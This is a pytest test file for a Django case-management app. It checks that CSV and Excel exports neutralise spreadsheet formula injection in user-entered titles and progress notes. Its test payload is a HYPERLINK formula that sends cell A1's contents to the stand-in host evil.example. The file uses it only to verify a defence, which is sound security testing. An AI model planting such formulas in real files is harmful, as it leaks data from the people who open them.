"""Formula injection: text that users typed and that starts like a formula comes out of the ledger as text, in the
CSV (with the apostrophe OWASP recommends) and in the Excel workbook (a text cell); numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.urls import reverse
from openpyxl.utils.escape import unescape

from opinions import services

pytestmark = pytest.mark.django_db

PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
TODAY = date(2021, 3, 1)  # after the case's deadline: its days left are negative


@pytest.fixture
def overdue_case(make_case, world):
    def make(title: str, progress: str):
        case = make_case(kind="audit_rectification", title=title, items=[
            {"heading": "违规发放津贴补贴", "kind": "audit_problem", "amount": Decimal("120.50")}])
        case = services.case_issue(case=case, actor=world.staff, issued_date=date(2020, 9, 3))
        case = services.case_acknowledge(case=case, actor=world.liaison, received_date=date(2020, 9, 5))
        services.item_report_progress(item=case.items.get(), actor=world.liaison, progress_note=progress,
                                      rectified_amount=Decimal("80"))
        return case

    return make


def export(client, world, name: str) -> bytes:
    client.force_login(world.staff)
    with time_machine.travel(TODAY):
        return b"".join(client.get(reverse(name)).streaming_content)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_title_starting_like_a_formula_is_text_in_the_csv(client, world, overdue_case, start):
    case = overdue_case(f"{start}{PAYLOAD}", "已追回部分")
    assert case.title.startswith(start)  # the service kept it as typed
    rows = list(csv.reader(io.StringIO(export(client, world, "opinions:case_export").decode().lstrip("\ufeff"))))
    assert rows[1][2] == f"'{case.title}"
    days_left = (case.due_date - TODAY).days
    assert days_left < 0
    assert rows[1][13] == str(days_left)  # a negative number is a number: no apostrophe
    assert rows[1][0] == "1"  # the running number


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_title_starting_like_a_formula_is_a_text_cell_in_the_workbook(client, world, overdue_case, start):
    case = overdue_case(f"{start}{PAYLOAD}", "已追回部分")
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, world, "opinions:case_export_xlsx")))
    cases, items = workbook.worksheets  # row 4: the first below the heading, the as-of line and the header
    for cell in (cases["C4"], items["B4"]):
        assert cell.data_type == "s"
        # A control character is written as Excel's _xHHHH_ escape, which Excel reads back and openpyxl does not.
        assert unescape(cell.value) == case.title
        assert cell.quotePrefix
    assert cases["N4"].data_type == "n"
    assert cases["N4"].value == (case.due_date - TODAY).days


# The services strip a progress note, so it cannot start with a tab or a carriage return; the CSV has no items.
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_progress_note_starting_like_a_formula_is_a_text_cell_in_the_workbook(client, world, overdue_case, start):
    overdue_case("关于审计查出问题整改情况的审议意见", f"{start}{PAYLOAD}")
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, world, "opinions:case_export_xlsx")))
    items = workbook.worksheets[1]
    note = items["J4"]
    assert note.data_type == "s"
    assert note.value == f"{start}{PAYLOAD}"
    assert note.quotePrefix  # and stays text when someone edits the cell in Excel
    for amount, expected in ((items["G4"], Decimal("120.50")), (items["H4"], Decimal("80"))):
        assert amount.data_type == "n"
        assert Decimal(str(amount.value)) == expected


def test_ordinary_text_is_left_as_it_is(client, world, overdue_case):
    overdue_case("关于审计查出问题整改情况的审议意见", "已追回 80 万元")
    rows = list(csv.reader(io.StringIO(export(client, world, "opinions:case_export").decode().lstrip("\ufeff"))))
    assert rows[1][2] == "关于审计查出问题整改情况的审议意见"
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, world, "opinions:case_export_xlsx")))
    note = workbook.worksheets[1]["J4"]
    assert (note.value, note.quotePrefix) == ("已追回 80 万元", False)
